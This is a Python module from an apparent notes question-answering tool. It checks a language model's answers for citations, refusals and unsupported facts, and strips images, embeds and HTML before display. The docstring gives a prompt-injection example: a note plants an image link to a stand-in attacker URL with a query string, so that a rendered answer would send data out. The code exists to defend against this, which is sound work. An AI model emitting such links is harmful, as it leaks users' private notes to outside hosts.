"""The program's checks on a model's answer: citations, refusals and unsafe Markdown.

All pure functions of the answer text and the passages. The model proposes an answer; this
module decides what is shown: which sources back it, which citations point nowhere, whether it
is the fixed refusal, and that nothing in it can fetch a remote resource when rendered (a note
can plant `![](https://attacker/?q=...)` hoping the answer repeats it).
"""

from __future__ import annotations

import re
from collections.abc import Sequence

from commonplace.ask.models import REFUSAL, Answer, Passage, Source
from commonplace.ask.support import Checker
from commonplace.llm import strip_think
from commonplace.vault.shown import quoted_text

# The finding that says a leaked reasoning draft was taken out (the answer after it is whole).
DRAFT_REMOVED = "The model's reasoning draft was removed from the answer."
# The start of the finding under a refusal that the program gave in place of the model's
# answer: none of its facts stood in the passages (support.py).
NOT_SUPPORTED = "The model's answer was not supported by your notes"

# [3], [1, 2], [1-3], [^2]; never the inside of a [[wikilink]].
_CITATION = re.compile(r"(?<!\[)\[\s*\^?(\d{1,3}(?:\s*(?:,|;|-|–|and)\s*\^?\d{1,3})*)\s*\](?!\])")
_NUMBER = re.compile(r"\d+")
_RANGE = re.compile(r"^(\d+)\s*[-–]\s*(\d+)$")

_REFUSAL = re.compile(
    r"^\W*(?:(?:sorry|unfortunately|apologies|i'm sorry|i am sorry)\b[^a-z]*(?:but\s+)?)?"
    r"i\s*(?:can't|cannot|can not|couldn't|could not|am unable to|was unable to)\s+find\s+"
    r"(?:that|this|it|the answer|an answer|anything(?: about (?:that|this|it))?)"
    r"\s+in\s+(?:your|the)\s+notes\b[\s.!\"'*_)\]]*"
)

# Things that render as a fetch or an embed, or as markup the answer has no business carrying.
_IMAGE = re.compile(
    r"!\[(?:[^\]\n]|\n(?!\s*\n))*\]\s*(?:\((?:[^()\n]|\([^()\n]*\))*\)|\[[^\]\n]*\])?"
)
_EMBED = re.compile(r"!\[\[([^\[\]\n]*)\]\]")
_MACRO = re.compile(r"\{\{[^{}]*\}\}")
_HTML = re.compile(
    r"<!--.*?(?:-->|$)|<![A-Za-z][^>]*>|<\?.*?\?>|</?[A-Za-z][A-Za-z0-9:-]*(?:\s[^<>]*)?/?>",
    re.DOTALL,
)
_LOOSE_TAG_START = re.compile(r"<(?=[A-Za-z/!?%])")
_FENCE_INFO = re.compile(r"^(\s*(?:>\s*)*)(`{3,}|~{3,})[^\n`]*$", re.MULTILINE)


def cited_numbers(text: str) -> list[int]:
    """Every passage number the text cites, in order of first appearance."""
    seen: dict[int, None] = {}
    for match in _CITATION.finditer(text):
        for part in re.split(r"\s*(?:,|;|and)\s*", match.group(1)):
            part = part.replace("^", "").strip()
            span = _RANGE.match(part)
            if span and 0 < int(span.group(2)) - int(span.group(1)) <= 20:
                numbers = range(int(span.group(1)), int(span.group(2)) + 1)
            else:
                numbers = range(0)
                for number in _NUMBER.findall(part):
                    seen.setdefault(int(number), None)
            for n in numbers:
                seen.setdefault(n, None)
    return list(seen)


def normalize(text: str) -> str:
    """Lower case, straight apostrophes, single spaces: what refusal matching compares."""
    text = text.replace("’", "'").replace("‘", "'").replace("`", "'")
    return " ".join(text.lower().split())


def refusal_rest(text: str) -> str | None:
    """None if `text` is not the fixed refusal; else whatever the model added after it."""
    norm = normalize(text)
    match = _REFUSAL.match(norm)
    if not match:
        return None
    return norm[match.end() :].strip()


def is_refusal(text: str) -> bool:
    return refusal_rest(text) is not None


def sanitize(text: str) -> tuple[str, int]:
    """Remove images, embeds, macros and HTML; return the safe text and how many were removed.

    `![[Note]]` becomes a plain `[[Note]]` link; a `<` that could still start a tag after the
    removal is escaped so that no renderer sees markup.
    """
    removed = 0
    for pattern, repl in ((_EMBED, r"[[\1]]"), (_IMAGE, ""), (_MACRO, ""), (_HTML, "")):
        text, n = pattern.subn(repl, text)
        removed += n
    text = text.replace("![", "!\\[")
    text = _LOOSE_TAG_START.sub(r"\\<", text)
    # A code block's info string can make a plugin run it (```dataviewjs); keep just the fence.
    text = _FENCE_INFO.sub(lambda m: m.group(1) + m.group(2), text)
    return text, removed


def shorten(text: str, limit: int) -> str:
    """One line of at most `limit` characters, cut at a word, for showing a source."""
    flat = " ".join(text.split())
    if len(flat) <= limit:
        return flat
    cut = flat.rfind(" ", 0, limit - 1)
    cut = cut if cut > limit // 2 else limit - 1
    return flat[:cut].rstrip(" ,;:.") + "…"


def check_answer(
    question: str,
    raw: str,
    passages: Sequence[Passage],
    *,
    source_chars: int = 240,
    notes: Sequence[str] = (),
    context: str = "",
) -> Answer:
    """Turn the model's raw text into the Answer shown to the user, with the program's findings.

    `notes` are remarks from earlier stages (e.g. the search fell back to keywords); `context`
    is what the model was told besides the passages that may back a fact (today's date, the
    days the question names). A sentence left uncited gets the passages that hold its facts
    (support.py); an answer none of whose facts stand in a passage is replaced by the fixed
    refusal, and says so.
    """
    findings = list(notes)
    if "</think>" in raw:
        findings.append(DRAFT_REMOVED)
    text, removed = sanitize(strip_think(raw))
    text = text.strip()
    if removed:
        findings.append(
            f"Removed {removed} image(s), embed(s) or HTML from the answer: "
            "answers never load anything from elsewhere."
        )
    rest = refusal_rest(text)
    if rest is not None:
        if rest:
            findings.append("The model added text after the fixed refusal; it was left out.")
        return Answer(
            question, REFUSAL, refused=True, findings=tuple(findings), passages=tuple(passages)
        )
    if not text:
        findings.append("The model gave no answer.")
        return Answer(
            question, "", refused=False, findings=tuple(findings), passages=tuple(passages)
        )
    support = Checker(passages, question, context).check(text)
    if support.nothing_supported:
        named = ", ".join(support.unsupported[:3])
        findings.append(
            f"{NOT_SUPPORTED}: it said {named}, which none of the passages it was given holds, "
            "so it is not shown."
        )
        return Answer(
            question,
            REFUSAL,
            refused=True,
            findings=tuple(findings),
            passages=tuple(passages),
            replaced=True,
        )
    text = support.text
    findings += [
        f"{fact} stands in none of the passages given; check it before relying on it."
        for fact in support.unsupported
    ]
    findings += [f"{wrong}." for wrong in support.misattributed]
    cited = cited_numbers(text)
    by_number = {p.n: p for p in passages}
    unknown = [n for n in cited if n not in by_number]
    for n in unknown:
        given = f"only [1]–[{len(passages)}] were given" if passages else "no passages were given"
        findings.append(f"[{n}] matches no passage: {given}.")
    sources = tuple(_source(by_number[n], source_chars) for n in cited if n in by_number)
    if not cited:
        findings.append(
            "This answer cites no passage, so nothing in it is shown to come from your notes; "
            "check it before relying on it."
        )
    return Answer(
        question,
        text,
        refused=False,
        sources=sources,
        findings=tuple(findings),
        passages=tuple(passages),
        cited=tuple(cited),
        added=support.added,
    )


def _source(p: Passage, limit: int) -> Source:
    """The cited passage as one line under the answer, shown as the snippet of a search result
    is (vault/shown.quoted_text: no `#+BEGIN_EXAMPLE` lines from a Logseq page)."""
    safe, _ = sanitize(quoted_text(p.text))
    return Source(
        n=p.n,
        path=p.path,
        title=p.title,
        heading=p.heading,
        text=shorten(safe, limit),
        note_date=p.note_date,
        start_line=p.start_line,
    )
